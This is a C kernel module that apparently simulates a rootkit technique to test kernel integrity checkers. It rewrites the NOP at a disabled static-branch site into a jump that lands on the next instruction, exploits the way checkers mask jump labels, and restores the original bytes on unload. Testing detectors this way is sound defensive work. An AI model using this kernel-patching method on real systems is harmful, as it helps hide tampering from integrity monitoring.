// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: the place of a static branch that is off holds a jump all the same, to another target than the branch's.
 * Who: no kit that is known; hides where checkers mask jump labels.
 * Changes: a NOP of 5 bytes, the one at `place` or else the first, becomes a jump to the instruction behind it, so that
 * nothing runs otherwise. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/jump_label.h>

KERNEL_SYMBOL(__start___jump_table);
KERNEL_SYMBOL(__stop___jump_table);
KERNEL_SYMBOL(_stext);
KERNEL_SYMBOL(_etext);
/* Where the kernel does not name its table of them. 0: it does. */
static ulong place;
module_param(place, ulong, 0);

/* As 5.10 has it on some processors, and all others. */
static const u8 nops[2][5] = {{0x66, 0x66, 0x66, 0x66, 0x90}, {0x0f, 0x1f, 0x44, 0x00, 0x00}}, jump[5] = {0xe9};
static u8 *site, original[5];

static int change(u8 *at)
{
	site = at;
	memcpy(original, site, 5);
	write_protected(site, jump, 5);
	return 0;
}

static int __init start(void)
{
	struct jump_entry *entry = (struct jump_entry *)__start___jump_table_at;

	if (place)
		return change((u8 *)place);
	if (!entry || !_stext_at || !_etext_at)
		return -ENOENT;
	for (; (unsigned long)entry < __stop___jump_table_at; ++entry) {
		unsigned long code = jump_entry_code(entry);

		if (code < _stext_at || code + 5 > _etext_at)
			continue;
		if (memcmp((void *)code, nops[0], 5) != 0 && memcmp((void *)code, nops[1], 5) != 0)
			continue;
		return change((u8 *)code);
	}
	return -ESRCH;
}

static void __exit stop(void)
{
	write_protected(site, original, 5);
}

ATTACK(start, stop);
